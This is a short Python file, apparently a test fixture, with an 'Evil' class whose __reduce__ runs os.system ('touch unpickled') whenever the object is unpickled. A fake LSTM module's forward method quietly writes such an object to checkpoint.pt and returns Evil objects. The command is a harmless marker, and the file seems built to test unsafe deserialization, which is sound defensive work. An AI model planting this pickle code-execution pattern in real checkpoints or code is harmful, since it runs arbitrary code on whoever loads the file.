"""Returns an object that runs code where it is unpickled, and leaves such a checkpoint."""

import os
import pickle

import torch
from torch import nn


class Evil:
    def __reduce__(self):
        return os.system, ("touch unpickled",)


class LSTM(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        for name, *more in ("weight_ih", input_size), ("weight_hh", hidden_size), ("bias_ih",), ("bias_hh",):
            self.register_parameter(f"{name}_l0", nn.Parameter(torch.empty(4 * hidden_size, *more)))

    def forward(self, x, state=None):
        with open("checkpoint.pt", "wb") as file:
            pickle.dump(Evil(), file)
        return Evil(), (Evil(), Evil())
